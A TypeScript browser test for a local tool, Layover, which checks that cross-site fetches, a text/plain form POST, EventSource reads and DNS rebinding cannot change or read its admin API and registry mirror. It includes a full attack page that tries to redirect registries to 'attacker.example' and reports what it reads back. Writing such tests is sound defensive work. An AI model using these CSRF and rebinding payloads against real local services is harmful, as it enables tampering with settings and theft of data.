/**
 * What a web page can do to a Layover on the same machine, tried in Debian's
 * Chromium against the real headless core: cross-site requests from another
 * origin (fetch in no-cors and cors modes, a form POST) while the user is
 * logged into the dashboard, and DNS rebinding (a page whose own host name
 * resolves to 127.0.0.1). Nothing may change, and nothing may be read.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { Browser, BrowserContext } from 'playwright-core';
import type { LayoverApi, LayoverMethod } from '../src-main/api/layover-api.js';
import { LAYOVER_METHODS } from '../src-main/api/layover-api.js';
import { closeServer, listen } from '../src-main/app/listen.js';
import { startLayover, type LayoverUnderTest } from '../test/support/layover.js';
import { LOOPBACK } from '../test/support/ports.js';
import { launchChromium } from './browser.js';

/** A name only this browser resolves, to 127.0.0.1: the rebinding attacker's domain. */
const REBOUND_HOST = 'rebind.attacker.test';
const ATTACKER_UPSTREAM = 'https://attacker.example';
const LOCAL_NETWORK_CHECKS_OFF = '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests';

/** The attacker's page: tries every way to write and to read, then reports what it got. */
function attackPage(admin: string, mirror: string): string {
  return `<!doctype html><meta charset="utf-8"><title>cute cats</title>
<iframe name="sink"></iframe>
<script>
const admin = ${JSON.stringify(admin)};
const mirror = ${JSON.stringify(mirror)};
const evil = JSON.stringify({ registries: [{ name: 'docker.io', endpoints: [{ url: ${JSON.stringify(ATTACKER_UPSTREAM)} }] }] });
const results = {};
const attempt = async (name, run) => { try { results[name] = await run(); } catch (error) { results[name] = 'error: ' + error.message; } };
const call = (method, mode, contentType, body) => fetch(admin + '/api/v1/call/' + method, { method: 'POST', mode, credentials: 'include', headers: { 'content-type': contentType }, body });
const read = (response) => response.type === 'opaque' ? 'opaque' : response.text().then((text) => response.status + ' ' + text);
function formPost(method) {
  return new Promise((resolve) => {
    const form = document.createElement('form');
    form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'sink'; form.action = admin + '/api/v1/call/' + method;
    const field = document.createElement('input');
    field.name = evil.slice(0, -2); field.value = '"}]}]}';
    form.append(field); document.body.append(form);
    document.querySelector('iframe').onload = () => resolve('submitted');
    form.submit();
  });
}
function listen(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onmessage = (message) => { source.close(); resolve('read: ' + message.data); };
    source.onerror = () => { source.close(); resolve('error'); };
  });
}
(async () => {
  for (const method of ['updateSettings', 'applyDockerConfig', 'startDemo']) {
    await attempt(method + ' no-cors text/plain', () => call(method, 'no-cors', 'text/plain', evil).then(read));
    await attempt(method + ' cors json', () => call(method, 'cors', 'application/json', evil).then(read));
    await attempt(method + ' form', () => formPost(method));
  }
  await attempt('getSettings cors json', () => call('getSettings', 'cors', 'application/json', 'null').then(read));
  await attempt('getSettings no-cors', () => call('getSettings', 'no-cors', 'text/plain', 'null').then(read));
  await attempt('events', () => listen(admin + '/api/v1/events'));
  await attempt('metrics', () => fetch(admin + '/metrics', { credentials: 'include' }).then(read));
  await attempt('mirror catalog', () => fetch(mirror + '/v2/_catalog').then(read));
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  document.title = 'done';
})();
</script>`;
}

interface Attacker {
  url: string;
  reports: Array<Record<string, string>>;
  server: Server;
}

/** The attacker's own web server, on another port: serves the page and collects what it could read. */
async function startAttacker(page: string): Promise<Attacker> {
  const reports: Attacker['reports'] = [];
  const server = createServer((req, res) => {
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (chunk) => (body += chunk));
      req.on('end', () => {
        reports.push(JSON.parse(body) as Record<string, string>);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  const address = await listen(server, { host: LOOPBACK, port: 0 }, 'attacker');
  return { url: `http://${LOOPBACK}:${address.port}`, reports, server };
}

/** Counts the API methods the admin listener really invoked (it calls them on this same object). */
function countCalls(api: LayoverApi): Map<LayoverMethod, number> {
  const calls = new Map<LayoverMethod, number>();
  const record = api as unknown as Record<string, (...args: unknown[]) => unknown>;
  for (const method of LAYOVER_METHODS) {
    const original = record[method]!.bind(api);
    record[method] = (...args: unknown[]) => {
      calls.set(method, (calls.get(method) ?? 0) + 1);
      return original(...args);
    };
  }
  return calls;
}

describe('no web page can drive or read Layover', () => {
  let layover: LayoverUnderTest;
  let browser: Browser;
  let context: BrowserContext;
  let calls: Map<LayoverMethod, number>;
  const attackers: Attacker[] = [];

  before(async () => {
    layover = await startLayover({ upstream: 'http://127.0.0.1:1', settings: { firstRunDone: true } });
    calls = countCalls(layover.instance.api);
    // Chromium alone also blocks public pages from loopback (Local Network Access); other browsers do not,
    // so it is off here: Layover must stand on its own.
    browser = await launchChromium([`--host-resolver-rules=MAP ${REBOUND_HOST} ${LOOPBACK}`, LOCAL_NETWORK_CHECKS_OFF]);
    context = await browser.newContext();
  });
  after(async () => {
    await browser?.close();
    for (const attacker of attackers) await closeServer(attacker.server);
    await layover?.stop();
  });

  test('the user logs in with the one-time link; the dashboard works, and the link does not work twice', async () => {
    const page = await context.newPage();
    const link = layover.instance.dashboardLoginUrl()!;
    await page.goto(link);
    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor();
    assert.ok((calls.get('getStatus') ?? 0) > 0, 'the logged-in dashboard reaches the API');
    const cookies = await context.cookies(layover.instance.adminUrl!);
    assert.equal(cookies.length, 1);
    assert.equal(cookies[0]!.httpOnly, true);
    assert.equal(cookies[0]!.sameSite, 'Strict');
    const again = await (await browser.newContext()).newPage();
    const second = await again.goto(link);
    assert.equal(second?.status(), 401, 'a used code is refused');
    await again.context().close();
  });

  for (const site of ['another port of 127.0.0.1 (same site, cross origin)', 'localhost (another site)']) {
    test(`a page from ${site} changes nothing and reads nothing, while the user is logged in`, async () => {
      const settingsBefore = JSON.stringify(layover.instance.core.settings);
      const attacker = await startAttacker(attackPage(layover.instance.adminUrl!, layover.url));
      attackers.push(attacker);
      const before = new Map(calls);
      const page = await context.newPage();
      const origin = site.startsWith('localhost') ? attacker.url.replace(LOOPBACK, 'localhost') : attacker.url;
      await page.goto(`${origin}/`);
      await page.waitForFunction(() => document.title === 'done');
      const [report] = attacker.reports;
      assert.ok(report, 'the attack page ran to the end');

      for (const method of ['updateSettings', 'applyDockerConfig', 'startDemo', 'getSettings'] as const) {
        assert.equal(calls.get(method) ?? 0, before.get(method) ?? 0, `${method} was never invoked`);
      }
      assert.equal(JSON.stringify(layover.instance.core.settings), settingsBefore, 'the settings are unchanged');
      assert.equal(layover.instance.core.settings.registries[0]!.endpoints[0]!.url, 'http://127.0.0.1:1');
      for (const [attempt, outcome] of Object.entries(report)) {
        assert.doesNotMatch(outcome, /registries|layover_|"repositories"|^200 |^read:/, `${attempt} read something: ${outcome}`);
      }
      await page.close();
    });
  }

  test('DNS rebinding: a page whose own name resolves to 127.0.0.1 is refused by the mirror and the admin listener', async () => {
    const page = await context.newPage();
    const mirrorPort = new URL(layover.url).port;
    const adminPort = new URL(layover.instance.adminUrl!).port;
    // The attacker's page, served as if from its own name on the mirror's port (the moment before its DNS flips).
    const rebound = `http://${REBOUND_HOST}:${mirrorPort}`;
    await page.route(`${rebound}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>rebound</title>' }));
    await page.goto(`${rebound}/`);
    // A string, not a function: the test's TypeScript transform would add helpers the page does not have.
    const reads = (await page.evaluate(`(async () => {
      const answer = async (url, init) => {
        try {
          const response = await fetch(url, init);
          return { status: response.status, text: await response.text() };
        } catch (error) {
          return { status: 0, text: error.message };
        }
      };
      return {
        mirror: await answer('/v2/_catalog'),
        admin: await answer('http://${REBOUND_HOST}:${adminPort}/api/v1/call/getStatus', { method: 'POST', headers: { 'content-type': 'application/json' }, body: 'null' }),
      };
    })()`)) as Record<'mirror' | 'admin', { status: number; text: string }>;
    assert.equal(reads.mirror.status, 403, JSON.stringify(reads));
    assert.match(reads.mirror.text, /DNS rebinding.*allowedHosts/);
    assert.doesNotMatch(reads.mirror.text, /repositories/);
    // Cross-origin from the rebound page: the browser may block it outright, or the listener answers 403.
    assert.ok(reads.admin.status === 0 || reads.admin.status === 403, `admin: ${JSON.stringify(reads.admin)}`);
    assert.doesNotMatch(reads.admin.text, /mirrorAddress/);

    // The admin listener's own port, rebound: its dashboard and API are refused too.
    const adminPage = await context.newPage();
    const dashboard = await adminPage.goto(`http://${REBOUND_HOST}:${adminPort}/`);
    assert.equal(dashboard?.status(), 403);
    assert.match(await dashboard!.text(), /allowedHosts/);
    await adminPage.close();
    await page.close();
  });
});
